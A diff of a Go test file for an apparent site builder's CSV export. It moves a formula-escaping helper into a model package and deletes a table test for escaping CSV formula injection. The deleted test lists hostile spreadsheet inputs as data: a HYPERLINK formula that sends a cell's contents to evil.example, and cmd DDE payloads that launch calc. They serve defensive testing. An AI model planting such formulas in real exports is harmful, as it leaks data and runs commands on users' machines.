@@ -6,37 +6,9 @@ import (
 	"regexp"
 	"strings"
 	"testing"
-)
 
-func TestCSVCell(t *testing.T) {
-	for _, tt := range []struct{ in, want string }{
-		{"", ""},
-		{"Care coordinator", "Care coordinator"},
-		{"=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"},
-		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
-		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
-		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
-		{"\t=1+1", "'\t=1+1"},
-		{"\r=1+1", "'\r=1+1"},
-		{"-", "'-"},
-		{"a = b", "a = b"},     // only the first character counts
-		{" =1+1", " =1+1"},     // a spreadsheet does not read this as a formula
-		{"'quoted", "'quoted"}, // left as it is: not a formula
-		{"＝1+1", "＝1+1"},       // a full-width sign is not ASCII =
-		{"100000", "100000"},   // no number in the data is negative
-		{"2026-05-01", "2026-05-01"},
-	} {
-		if got := csvCell(tt.in); got != tt.want {
-			t.Errorf("csvCell(%q) = %q, want %q", tt.in, got, tt.want)
-		}
-	}
-	if CSVFormulaLeads() != "=+-@\t\r" {
-		t.Errorf("CSVFormulaLeads() = %q: OWASP lists = + - @, tab and carriage return", CSVFormulaLeads())
-	}
-	if len(CSVFormulaLeadNames()) != len(CSVFormulaLeads()) {
-		t.Error("a formula character has no name for the /data/ page")
-	}
-}
+	"intkb/builder/model"
+)
 
 // formulaSite is compareSite with formulas where text goes: in a Meta
 // key, a table's key, a list and a list of tables.
@@ -120,8 +92,8 @@ func TestSelfAssessmentGetsTheFormulaRule(t *testing.T) {
 	if m == nil {
 		t.Fatal("the CSV download does not carry the formula characters")
 	}
-	if got := html.UnescapeString(m[1]); got != CSVFormulaLeads() {
-		t.Errorf("the page hands the script %q, want %q", got, CSVFormulaLeads())
+	if got := html.UnescapeString(m[1]); got != model.CSVFormulaLeads() {
+		t.Errorf("the page hands the script %q, want %q", got, model.CSVFormulaLeads())
 	}
 	js := readOut(t, dest, "js/self-assessment.js")
 	if !strings.Contains(js, `getAttribute("data-csv-formula-leads")`) || strings.Contains(js, `"=+-@`) {
